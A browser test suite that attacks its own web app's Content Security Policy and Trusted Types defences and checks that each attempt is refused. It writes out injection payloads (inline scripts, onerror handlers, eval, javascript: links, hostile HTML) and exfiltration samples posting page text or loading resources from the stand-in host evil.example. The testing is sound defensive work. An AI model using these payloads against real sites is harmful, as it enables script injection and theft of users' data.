import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { builtFolder } from '#entry/build.ts';
import { openTheatre, type Sitting, type Theatre, type World } from './harness.ts';
import { swedish } from '#language/swedish.ts';
import { speakImport } from '#language/import-words.ts';
import { speak } from '#language/words.ts';
import { dropFiles } from './importing.ts';
import { openFilledPage } from './main-job.ts';
import { secretaryAt } from './secretary.ts';

// The page's own defence, tried from the inside: as if somebody had got a line of script or markup into it.

vi.setConfig({ testTimeout: 90_000 });

const say = speak(swedish);
const sayImport = speakImport('sv');
const fixtures = join(import.meta.dirname, '../fixtures');

let theatre: Theatre;
let world: World;
beforeAll(async () => {
  theatre = await openTheatre();
  world = await theatre.world();
}, 180_000);
afterAll(() => theatre.close());

declare global {
  interface Window {
    violations: string[];
    hacked?: true;
  }
}

/** Writes down what the browser refuses on grounds of the policy: "img-src https://evil.example/x.png". */
function noteViolations(): void {
  window.violations = [];
  document.addEventListener('securitypolicyviolation', event => {
    window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
  });
}

/** Everything that the page has asked of `evil.example`; nothing must come there. */
function watchEvil(page: Page): readonly string[] {
  const asked: string[] = [];
  void page.route('https://evil.example/**', async route => {
    asked.push(route.request().url());
    await route.fulfill({ body: 'window.hacked = true', contentType: 'text/javascript' });
  });
  return asked;
}

async function sitWatched(
  watch: (page: Page) => void = () => undefined,
): Promise<{ readonly sitting: Sitting; readonly asked: readonly string[] }> {
  const profile = await theatre.browser.newContext({ locale: 'sv-SE' });
  profile.on('page', watch);
  await profile.addInitScript(noteViolations);
  const sitting = await world.sit({ profile });
  const asked = watchEvil(sitting.page);
  await openFilledPage(sitting);
  return { sitting, asked };
}

const violations = (app: Frame): Promise<readonly string[]> => app.evaluate(() => window.violations);

const officeScript = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';

test.each([
  ['tab.html', []],
  ['auth.html', []],
  ['health.html', []],
  ['pane.html', [officeScript]],
  ['events.html', [officeScript]],
])('%s as built has no script and no style in itself, and from elsewhere only %j', (name, foreign) => {
  const html = readFileSync(join(builtFolder, name), 'utf8');
  const scripts = [...html.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/giu)];
  const sources = scripts.map(([, attributes = '']) => /\bsrc="?([^"\s>]+)/u.exec(attributes)?.[1] ?? '');
  expect(scripts.map(([, , content]) => content).join('')).toBe('');
  expect(sources.filter(source => /^[\w.-]+\.js$/u.test(source)).length).toBeGreaterThan(0);
  expect(sources.filter(source => !/^[\w.-]+\.js$/u.test(source))).toEqual(foreign);
  expect(html).not.toMatch(/\son[a-z]+\s*=|\sstyle\s*=|<style|javascript:|<base|<meta[^>]*http-equiv/iu);
  const addresses = [...html.matchAll(/(?:src|href)="?((?:https?:)?\/\/[^"\s>]+)/gu)].map(([, url]) => url);
  expect(addresses).toEqual(foreign);
});

/** Ways to run something, and by which rule the browser refuses each. They act later, as code of the page itself. */
const attacks: readonly (readonly [string, string, () => void])[] = [
  [
    'a script written into the page',
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.hacked = true';
      document.body.append(script);
    },
  ],
  [
    'a script whose text hides in a node of its own',
    // The browser says this one only to the console.
    "error: This document requires 'TrustedScript'",
    () => {
      const script = document.createElement('script');
      script.append(document.createTextNode('window.hacked = true'));
      document.body.append(script);
    },
  ],
  [
    'markup with a handler in it',
    'require-trusted-types-for',
    () => {
      document.body.innerHTML = '<img src="x" onerror="window.hacked = true">';
    },
  ],
  [
    'a handler written as an attribute',
    'require-trusted-types-for|script-src-attr',
    () => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.hacked = true');
      image.src = 'data:,x';
      document.body.append(image);
    },
  ],
  [
    'text run as code',
    'require-trusted-types-for|script-src',
    () => {
      // The rule that is tried here is the page's, not ours.
      window['eval']('window.hacked = true');
    },
  ],
  [
    'a function made of text',
    'require-trusted-types-for|script-src',
    () => {
      const make = Function as unknown as (text: string) => () => void;
      make('window.hacked = true')();
    },
  ],
  [
    'a timer with text',
    'require-trusted-types-for|script-src',
    () => {
      const page = window as unknown as { setTimeout: (text: string, ms: number) => void };
      page.setTimeout('window.hacked = true', 0);
    },
  ],
  [
    'a script from elsewhere',
    'require-trusted-types-for|script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/script.js';
      document.body.append(script);
    },
  ],
  [
    'a worker made of text',
    'require-trusted-types-for|worker-src',
    () => {
      new Worker(URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' })));
    },
  ],
  [
    'a frame that carries its own page',
    'require-trusted-types-for',
    () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<script>parent.hacked = true</script>';
      document.body.append(frame);
    },
  ],
  [
    'a frame from elsewhere',
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/frame.html';
      document.body.append(frame);
    },
  ],
  [
    'a link of script',
    'script-src-elem|require-trusted-types-for',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:void(window.hacked = true)';
      document.body.append(link);
      link.click();
    },
  ],
  [
    'words sent elsewhere',
    'connect-src',
    () => {
      void fetch('https://evil.example/take', { method: 'POST', body: document.body.innerText }).catch(
        () => undefined,
      );
    },
  ],
  [
    'words sent elsewhere as the address of a picture',
    'img-src',
    () => {
      const image = document.createElement('img');
      image.src = 'https://evil.example/take.png';
      document.body.append(image);
    },
  ],
  [
    'words sent elsewhere by a form',
    'form-action',
    () => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = 'https://evil.example/take';
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'another home for all addresses',
    'base-uri',
    () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  ],
  [
    'a look that hides the page',
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.textContent = '* { display: none !important }';
      document.head.append(style);
    },
  ],
  [
    'a look from elsewhere',
    'style-src-elem',
    () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://evil.example/look.css';
      document.head.append(link);
    },
  ],
  [
    'a plug-in',
    'require-trusted-types-for|object-src',
    () => {
      const plugin = document.createElement('object');
      plugin.data = 'https://evil.example/plugin';
      document.body.append(plugin);
    },
  ],
  [
    'a policy of one’s own that lets everything through',
    'trusted-types',
    () => {
      window.trustedTypes?.createPolicy('mine', { createHTML: text => text, createScriptURL: text => text });
    },
  ],
];

/** Lets the page do it by itself in a moment: what the debugger does at once is not held to the policy. */
const actLater = (app: Frame, deed: () => void): Promise<unknown> =>
  app.evaluate(`void setTimeout(() => { try { (${deed.toString()})() } catch {} }, 0)`);

test('whatever gets into the page, none of it runs, shows or leaves, and each is refused by its rule', async () => {
  const { sitting, asked } = await sitWatched();
  const { app } = sitting;
  const words = await app.locator('main').innerText();
  const refused: Record<string, string> = {};
  for (const [what, rule, attack] of attacks) {
    const before = { told: (await violations(app)).length, complaints: sitting.complaints().length };
    const refusals = async (): Promise<readonly string[]> => [
      ...(await violations(app)).slice(before.told),
      ...sitting.complaints().slice(before.complaints),
    ];
    await actLater(app, attack);
    const byRule = new RegExp(`^(?:${rule}) `, 'u');
    await expect
      .poll(async () => (await refusals()).some(words => byRule.test(words)), { message: what })
      .toBe(true)
      .catch(() => undefined);
    const found = await refusals();
    refused[what] = found.some(each => byRule.test(each)) ? 'refused' : found.join(', ');
  }
  expect(refused).toEqual(Object.fromEntries(attacks.map(([what]) => [what, 'refused'])));
  expect(asked).toEqual([]);
  expect(await app.evaluate(() => window.hacked)).toBeUndefined();
  expect(await app.locator('main').innerText()).toBe(words);
  // The page goes on working as if nothing had been.
  const hands = secretaryAt(sitting);
  await hands.write('5 a', 'Skrivet efteråt.');
  await hands.press('save');
  await hands.saved();
  await sitting.close();
});

/** All that the page keeps on this computer outside of MSAL's own place, as one text. */
const keptOnDisk = (app: Frame): Promise<string> =>
  app.evaluate(async () => {
    const kept: unknown[] = [{ ...localStorage }, document.cookie, location.href, history.state];
    for (const { name } of await indexedDB.databases()) {
      const database = await new Promise<IDBDatabase>((resolve, reject) => {
        const asked = indexedDB.open(name ?? '');
        asked.onsuccess = () => resolve(asked.result);
        asked.onerror = () => reject(new Error(asked.error?.message));
      });
      for (const store of database.objectStoreNames) {
        const all = database.transaction(store).objectStore(store).getAll();
        kept.push(
          await new Promise(resolve => {
            all.onsuccess = () => resolve(all.result);
          }),
        );
      }
      database.close();
    }
    return JSON.stringify(kept);
  });

test('she works, is refused, signs in and works on: no token lies anywhere of ours, and the policy has nothing to say', async () => {
  const tokens = new Set<string>();
  const said: string[] = [];
  const { sitting } = await sitWatched(page => {
    page.on('request', request => {
      const token = /^Bearer (.+)$/u.exec(request.headers()['authorization'] ?? '')?.[1];
      if (token) tokens.add(token);
    });
    page.on('console', message => said.push(message.text()));
    page.on('pageerror', error => said.push(String(error.stack)));
  });
  const { app } = sitting;
  const hands = secretaryAt(sitting);
  sitting.allow(/Failed to load resource/u);
  await hands.button(say('header.start')).click();
  await hands.write('5 a', 'Före avbrottet.');
  await hands.saved();
  await world.trouble([{ match: { method: 'POST', path: '/$batch' }, status: 401 }]);
  await hands.write('5 a', ' Under avbrottet.');
  await app.locator('[data-saving="signedOut"]').waitFor({ timeout: 20_000 });
  expect(await app.locator('body').innerText()).not.toMatch(/eyJ[\w-]{10}/u);
  await world.trouble([]);
  await hands.button(say('signIn.button')).click();
  await hands.saved();

  expect(tokens.size).toBeGreaterThan(1);
  const kept = await keptOnDisk(app);
  expect(kept).toContain('Under avbrottet.');
  const journal = JSON.stringify(await world.sim('requests'));
  for (const token of tokens) {
    for (const part of [token.slice(0, 40), token.slice(-40)]) {
      expect(kept).not.toContain(part);
      expect(said.join('\n')).not.toContain(part);
      expect(journal).not.toContain(part);
    }
    expect(
      sitting
        .line()
        .map(({ url }) => url)
        .join(),
    ).not.toContain(token.slice(0, 40));
  }
  expect(await violations(app)).toEqual([]);
  expect(sitting.complaints()).toEqual([]);
  await sitting.close();
});

test('a PDF and a hostile web page are read under the policy: our own worker starts, and nothing of theirs does', async () => {
  const { sitting, asked } = await sitWatched();
  const { app } = sitting;
  await app.locator('header h1 button').click();
  await app.getByRole('heading', { name: sayImport('meetings.title'), level: 2 }).waitFor();
  const hostile = `<html><body onload="window.hacked = true"><h1>Minnesanteckningar Länsnätverket Norrdal</h1>
    <p>Datum: 12 mars 2021</p><script src="https://evil.example/x.js"></script><img src="https://evil.example/x.png" onerror="window.hacked = true">
    <h2>1. Öppnande</h2><p>Mötet öppnades &aring;ter.</p><iframe src="https://evil.example/frame.html"></iframe></body></html>`;
  await dropFiles(sitting, [
    { name: 'rad.pdf', bytes: new Uint8Array(readFileSync(join(fixtures, 'pdf/council.pdf'))) },
    { name: 'sida.html', bytes: new TextEncoder().encode(hostile) },
  ]);
  const settled = app.locator('[data-import="read"], [data-import="refused"]');
  await expect.poll(() => settled.count(), { timeout: 40_000 }).toBe(2);
  expect(await app.locator('[data-import="read"]').count()).toBeGreaterThan(0);
  expect(sitting.scripts().some(url => url.includes('/pdf.'))).toBe(true);
  expect(asked).toEqual([]);
  expect(await app.evaluate(() => window.hacked)).toBeUndefined();
  expect(await violations(app)).toEqual([]);
  expect(sitting.complaints()).toEqual([]);
  await sitting.close();
});

test('a page of somebody else cannot frame the app', async () => {
  const other = createServer((_, response) => {
    response
      .setHeader('Content-Type', 'text/html')
      .end(`<!doctype html><title>x</title><iframe name="app" src="${world.appUrl}/tab.html"></iframe>`);
  });
  await new Promise<void>(resolve => other.listen(0, 'localhost', resolve));
  const address = other.address();
  const page = await theatre.browser.newPage();
  const refusals: string[] = [];
  page.on('console', message => refusals.push(message.text()));
  await page.goto(`http://localhost:${typeof address === 'object' && address ? address.port : 0}/`);
  await expect.poll(() => refusals.join('\n')).toMatch(/frame-ancestors/u);
  expect(await page.frame('app')?.locator('#root').count()).toBe(0);
  await page.close();
  await new Promise(resolve => other.close(resolve));
});
